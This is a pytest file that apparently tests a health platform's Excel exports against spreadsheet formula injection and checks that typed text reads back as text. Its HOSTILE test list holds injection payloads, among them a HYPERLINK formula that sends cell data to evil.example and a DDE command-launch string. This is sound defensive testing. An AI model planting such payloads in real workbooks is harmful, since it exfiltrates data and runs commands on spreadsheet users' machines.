"""Spreadsheet formula injection: every workbook the platform writes shows typed text as text, never as a formula.

Each export is produced with a hostile value in a text field, opened with openpyxl, and checked: no cell is a formula
and the hostile text reads back exactly as typed. A source scan keeps new exports on the one shared writer."""

import datetime
import io
import pathlib
import re

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from xinli.core import xlsx
from xinli.core.policy import Role
from xinli.testing.fixtures import make_user

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def assert_text_is_text(data: bytes, *expected: str):
    all_cells = cells(data)
    formulas = [c.coordinate for c in all_cells if c.data_type == "f"]
    assert formulas == [], f"formula cells: {formulas}"
    # XlsxWriter stores a carriage return as Excel's escape _x000D_ (Excel shows it as CR; openpyxl does not decode it)
    values = {c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value for c in all_cells}
    for text in expected:
        assert text in values, f"{text!r} not shown as written"


def test_shared_writer_writes_every_risky_start_as_text():
    data = xlsx.workbook([("s", ["名称", "值"], [[h, 1] for h in HOSTILE] + [[None, "=A1"]])])
    assert_text_is_text(data, *HOSTILE, "=A1")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["B2"].value == 1 and ws["B2"].data_type == "n"  # numbers stay numbers


def test_indicator_scorecard_export_with_a_hostile_unit_name(client, tree):
    from xinli.testing.fixtures import login_verified

    tree.county_a.name = HOSTILE[0]
    tree.county_a.save()
    officer = make_user("ind_officer", [(tree.county_a, Role.HEALTH_OFFICER)])
    from xinli.indicators import services

    services.rebuild(2026)
    login_verified(client, officer)
    r = client.get("/indicators/export.xlsx", {"year": 2026, "unit": tree.county_a.pk})
    assert r.status_code == 200
    assert_text_is_text(r.content, HOSTILE[0])


def test_smd_register_export_with_a_hostile_address(tree, people):
    from xinli.smd.export import export_register
    from xinli.smd.services import register_patient

    doctor = make_user("jingfang", [(tree.a1, Role.SMD_DOCTOR)])
    person = people.in_a1v1
    person.address = HOSTILE[0]
    person.name = HOSTILE[3]
    person.save()
    register_patient(doctor, person, {
        "diagnosis": "F20", "diagnosed_by": "青岛市精神卫生中心", "diagnosed_on": datetime.date(2020, 5, 1), "source": "hospital",
        "residence": "home", "guardian_name": "张父", "consent_community": True})
    assert_text_is_text(export_register(doctor, identified=True, purpose="核对"), HOSTILE[0], HOSTILE[3])


def test_network_register_export_with_hostile_names(tree):
    from xinli.network.models import Institution, Staff
    from xinli.network.transfer import export_workbook

    officer = make_user("net_officer2", [(tree.county_a, Role.HEALTH_OFFICER)])
    inst = Institution.objects.create(org_unit=tree.county_a, org_path=tree.county_a.path, name=HOSTILE[1], kind="secondary_school")
    Staff.objects.create(org_unit=tree.county_a, org_path=tree.county_a.path, name=HOSTILE[2], profession="counsellor", education="master", employer=inst)
    assert_text_is_text(export_workbook(officer), HOSTILE[1], HOSTILE[2])


def test_campaign_positive_list_with_hostile_labels(tree):
    from xinli.screening import campaigns
    from xinli.screening.models import Participant

    psy = make_user("school_psy", [(tree.county_a, Role.SCHOOL_PSYCHOLOGIST)])
    now = timezone.now()
    c = campaigns.create_campaign(psy, name="普查", kind="school", institution="一中", org_unit=tree.county_a, scales=["phq9"],
                                  opens_at=now - datetime.timedelta(hours=1), closes_at=now + datetime.timedelta(days=7),
                                  groups=[{"grade": HOSTILE[4], "name": HOSTILE[5], "participants": [
                                      {"label": HOSTILE[0], "minor_under_14": False}]}])
    p = Participant.objects.get(campaign=c)
    campaigns.submit(p.code, {"phq9": {str(i): 3 for i in range(1, 10)}})
    assert_text_is_text(campaigns.export_positive_xlsx(psy, c, identified=True, purpose="约谈"), *HOSTILE[::4], HOSTILE[5])


def test_no_workbook_is_created_outside_the_shared_writer():
    """Reading workbooks (openpyxl load_workbook) is fine; writing one or a CSV goes through xinli.core.xlsx only."""
    root = pathlib.Path(__file__).resolve().parents[2]
    writer = re.compile(r"xlsxwriter|csv\.writer|csv\.DictWriter|import Workbook\b|(?<![\w.])Workbook\(|(?<!xlsx\.)write_row\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if "tests" not in p.parts and p != root / "core" / "xlsx.py" and writer.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
